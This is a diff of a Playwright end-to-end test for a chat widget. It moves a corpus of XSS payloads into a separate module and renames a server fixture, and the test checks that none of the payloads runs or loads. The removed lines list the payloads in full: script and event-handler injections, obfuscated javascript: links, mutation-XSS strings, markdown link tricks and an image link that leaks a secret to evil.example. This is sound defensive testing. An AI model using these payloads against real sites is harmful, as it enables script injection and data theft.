@@ -5,55 +5,9 @@ import json
 import pytest
 from playwright.sync_api import Page, Route, expect
 
-from tests.e2e.element.conftest import Chat, Server
-
-CORPUS = [
-    "<script>window.pwned = 1</script>",
-    "<img src=x onerror='window.pwned = 1'>",
-    "<svg onload='window.pwned = 1'></svg>",
-    "<svg><script>window.pwned = 1</script></svg>",
-    "<iframe src='javascript:parent.pwned = 1'></iframe>",
-    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
-    "<a href='javascript:window.pwned = 1'>click</a>",
-    "<details open ontoggle='window.pwned = 1'>x</details>",
-    "<input autofocus onfocus='window.pwned = 1'>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror='window.pwned = 1'>",
-    "<style>* { display: none !important }</style>",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
-    "<template><script>window.pwned = 1</script></template>",
-    "<!-- --><script>window.pwned = 1</script>",
-    "<noscript><p title=\"</noscript><img src=x onerror='window.pwned = 1'>\">",
-    "<object data='javascript:window.pwned = 1'></object><embed src='javascript:window.pwned = 1'>",
-    "<form action='javascript:window.pwned = 1'><button>x</button></form>",
-    "[x](javascript:window.pwned=1)",
-    "[x](JaVaScRiPt:window.pwned=1)",
-    "[x](  javascript:window.pwned=1)",
-    "[x](java&#10;script:window.pwned=1)",
-    "[x](&#106;avascript:window.pwned=1)",
-    "[x](javascript&colon;window.pwned=1)",
-    "[x](\x01javascript:window.pwned=1)",
-    "[x](vbscript:msgbox)",
-    "[x](data:text/html,<script>opener.pwned=1</script>)",
-    "[x][y]\n\n[y]: javascript:window.pwned=1",
-    "<javascript:window.pwned=1>",
-    "![x](javascript:window.pwned=1)",
-    '![x](x" onerror="window.pwned=1)',
-    "![x](https://evil.example/leak?secret=1)",
-    "![x](data:image/svg+xml,<svg/onload=window.pwned=1>)",
-    '[x](https://good.example "title\\" onmouseover=\\"window.pwned=1")',
-    "```html\n<script>window.pwned = 1</script>\n```",
-    '```"><script>window.pwned=1</script>\nx\n```',
-    "`<img src=x onerror=window.pwned=1>`",
-    "| <script>window.pwned=1</script> | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | d |",
-    "# <svg onload=window.pwned=1>",
-    "> <script>window.pwned=1</script>",
-    "- <img src=x onerror=window.pwned=1>",
-    "**<b onclick=window.pwned=1>x</b>**",
-    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
-    "\u202e<script>window.pwned=1</script>",
-    "<scr\x00ipt>window.pwned=1</scr\x00ipt>",
-]
+from tests.e2e.element.chat import Chat
+from tests.e2e.element.corpus import CORPUS
+from tests.e2e.element.servers import Server
 
 
 def items(text: str, index: int) -> list[dict]:
@@ -104,7 +58,7 @@ def items(text: str, index: int) -> list[dict]:
 
 
 @pytest.fixture
-def hostile(server: Server, page: Page) -> Page:
+def hostile(stock: Server, page: Page) -> Page:
     """A page whose server sends the whole corpus, in every field; anything it loads or runs is noted."""
     page.add_init_script("window.pwned = 0; window.alert = window.open = () => { window.pwned = 1 }")
     every = [item for index, text in enumerate(CORPUS) for item in items(text, index)]
@@ -130,14 +84,14 @@ def hostile(server: Server, page: Page) -> Page:
 
     page.route("**/chatkit", answer)
     page.goto(
-        server.url(
+        stock.url(
             options={"initialThread": "t", "disclaimer": {"text": CORPUS[1]}, "startScreen": {"greeting": CORPUS[0]}}
         )
     )
     return page
 
 
-def test_nothing_of_the_corpus_runs_or_loads(server: Server, hostile: Page, chat: Chat) -> None:
+def test_nothing_of_the_corpus_runs_or_loads(stock: Server, hostile: Page, chat: Chat) -> None:
     requested: list[str] = []
     hostile.on("request", lambda request: requested.append(request.url))
     expect(chat.root.locator(".message.assistant")).to_have_count(len(CORPUS))
@@ -162,10 +116,10 @@ def test_nothing_of_the_corpus_runs_or_loads(server: Server, hostile: Page, chat
     assert [
         link
         for link in links
-        if not str(link).startswith((server.origin, "https://good.example", "https://evil.example"))
+        if not str(link).startswith((stock.origin, "https://good.example", "https://evil.example"))
     ] == []
     assert hostile.evaluate("window.pwned") == 0
-    assert [url for url in requested if not url.startswith((server.origin, "data:"))] == []
+    assert [url for url in requested if not url.startswith((stock.origin, "data:"))] == []
 
 
 def test_every_link_of_the_corpus_leads_to_the_web(hostile: Page, chat: Chat) -> None:
